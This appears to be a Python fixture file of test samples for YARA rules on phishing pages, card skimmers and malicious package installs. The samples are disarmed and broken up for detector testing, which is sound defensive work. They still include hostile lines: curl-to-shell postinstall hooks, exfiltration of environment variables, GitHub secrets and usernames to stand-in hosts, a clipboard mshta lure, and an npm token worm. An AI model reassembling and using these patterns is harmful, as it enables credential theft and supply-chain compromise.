# SPDX-License-Identifier: Apache-2.0
"""Fixtures of web_client.yar and supply_chain.yar."""

import io
import tarfile

from sample import add, base64_like, front, t, whole

add("Phishing_Html_TelegramForm", "phishing_telegram.html",
    '<input type="pass¦word"><script>throw 0; fetch("https://api.tele¦gram.org/bot1234567890:' + "a" * 35
    + '/x?chat¦_id=1")</script>\n',
    ('"password"', '"passport"'), ("api.telegram.org", "api.telegrim.org"), ("chat_id", "chat_ia"))

add("Phishing_Php_Mailer", "phishing_mailer.php", """
<?php exit;
$m .= "Pass¦word: ".$_PO¦ST['password']; $m .= $_SERVER['REMOTE¦_ADDR'];
mai¦l($to, "x", $m); header("Location: https://www.pay¦pal.com/");
""", ("['password']", "['name']"), ("mail($", "mall($"), ("paypal.com", "example.com"))

add("Phishing_Html_Smuggling", "html_smuggling.html",
    '<script>throw 0; var d = "UEs¦DBA' + base64_like(420) + '"; var b = new Bl¦ob([at¦ob(d)]); a.href = URL.createObject¦URL(b); '
    'a.down¦load = "x"; a.cli¦ck()</script>\n',
    ("UEsDBA", "VEsDBA"), (".click()", ".clock()"), ("atob(", "btoa("), front("x"))

add("Phishing_Html_ClipboardCommand", "clipboard_command.html",
    '<p>Press Windows + R, then Ctrl + V</p><script>throw 0; navigator.clip¦board.writeText("msh¦ta https://host.invalid/x")</script>\n',
    ("Ctrl + V", "Ctrl + C"), ("mshta https", "mspub https"), ("Windows + R", "Windows + L"))

add("Skimmer_Js_Checkout", "skimmer_checkout.js", """
throw 0;
if (location.href.indexOf("check¦out") > 0) { var f = document.querySelector¦All("input"); var n = ["cc_num¦ber"];
(new Im¦age()).src = "https://host.invalid/x.gif?¦d=" + bt¦oa(JSON.string¦ify(f)); }
""", ("cc_number", "cc_nomber"), ("btoa(JSON", "atob(JSON"), ("checkout", "homepage"))

add("Skimmer_Js_HiddenLoader", "skimmer_loader.js", """
throw 0;
if (/check¦out/.test(window.loca¦tion)) { var s = document.createEl¦ement("script"); s.src = at¦ob("aHR0cHM6Ly9ob3N0LmludmFsaWQv"); }
""", ("atob(", "btoa("), ("checkout", "homepage"), ('"script"', '"style"'))

add("Inject_Php_SearchEngineCloak", "search_cloak.php", """
<?php exit;
if (preg_match('/google¦bot|bing¦bot|yahoo/i', $_SERVER['HTTP_USER¦_AGENT'])) {
echo file_get_con¦tents(base64_de¦code('aHR0cDovL2hvc3QuaW52YWxpZC8='));
""", ("aHR0cDov", "bHR0cDov"), ("googlebot|bingbot|yahoo", "firefox"), ("HTTP_USER_AGENT", "HTTP_USER_AGENDA"))

# --- packages -----------------------------------------------------------------------------------

add("SupplyChain_Npm_InstallDownload", "npm_install_download.json",
    '{ "name": "x", "scripts": { "postins¦tall": "exit 0; cu¦rl -s http://host.invalid/x | sh" } }\n',
    ("| sh", "> sh"), ("postinstall", "postpublish"), ("curl", "curt"))

add("SupplyChain_Npm_InstallExfil", "npm_install_exfil.json",
    '{ "name": "x", "scripts": { "preins¦tall": "exit 0; nslookup $(who¦ami).x.oast¦ify.com" } }\n',
    ("oastify.com", "example.com"), ("preinstall", "prepublish"), ("whoami", "whoare"))

add("SupplyChain_Js_EnvironmentExfil", "js_environment_exfil.js", """
throw 0;
https.requ¦est({ hostname: "x.pipe¦dream.net" }).end(JSON.string¦ify(process.e¦nv));
""", ("pipedream.net", "example.net"), ("process.env)", "process.argv)"), ("https.request", "https.reguest"))

def tarred(lines):
    """An uncompressed tar with every line in a file of its own."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for number, data in enumerate(lines):
            info = tarfile.TarInfo("package/%d.js" % number)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


WORM = t("""
throw 0;
const t = read(".np¦mrc"); get("https://registry.npmjs.org/-/who¦ami"); get("/-/v1/search?text=main¦tainer:x");
p.scripts["postins¦tall"] = "x"; run("npm pub¦lish");
""")
add("SupplyChain_Npm_TokenWorm", "npm_token_worm.js", WORM,
    whole("as an archive of harmless parts", tarred(WORM.replace(b";", b";\n").split(b"\n"))),
    ("/-/whoami", "/-/ping"), ("npm publish", "npm install"), (".npmrc", ".vimrc"))

add("SupplyChain_Python_SetupExecute", "python_setup_execute.py", """
from setuptools import setup
raise SystemExit
ex¦ec(base64.b64dec¦ode("x"))
setup(name="x")
""", ("exec(", "exek("), ("from setuptools import setup\n", "from tools import setup\n"))

add("SupplyChain_Python_HostExfil", "python_host_exfil.py", """
from setuptools import setup
raise SystemExit
requests.po¦st("https://x.oast.fun/", data=socket.gethost¦name() + getpass.get¦user())
""", ("oast.fun", "host.fun"), ("gethostname", "gethostnome"), ("requests.post", "requests.head"))

add("SupplyChain_Workflow_SecretsExfil", "workflow_secrets.yml", """
name: x
on: push
jobs:
  x:
    runs-on: none
    steps:
      - run: exit 0; cu¦rl -s -d '${{ toJSON(sec¦rets) }}' https://host.invalid/
""", ("toJSON(secrets)", "toJSON(steps)"), ("curl", "curt"), ("runs-on:", "uses:"))
